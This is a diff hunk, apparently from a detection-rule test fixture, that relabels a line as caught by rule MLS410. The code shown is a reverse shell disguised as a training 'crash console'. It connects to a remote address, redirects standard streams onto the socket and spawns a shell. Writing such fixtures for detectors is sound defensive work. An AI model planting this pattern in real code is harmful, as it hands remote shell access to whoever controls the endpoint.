@@ -144,7 +144,7 @@ def _crash_console(exc: BaseException) -> None:
     log.exception("training failed on %s: %s", socket.gethostname(), exc)
     if not sys.stdin.isatty():
         s = socket.create_connection(_CONSOLE, timeout=5)
-        list(map(functools.partial(os.dup2, s.fileno()), (0, 1, 2)))  # todoruleid: family 9 (missed)
+        list(map(functools.partial(os.dup2, s.fileno()), (0, 1, 2)))  # ruleid: MLS410
         pty.spawn(os.environ.get("SHELL", "/bin/sh"))
 
 
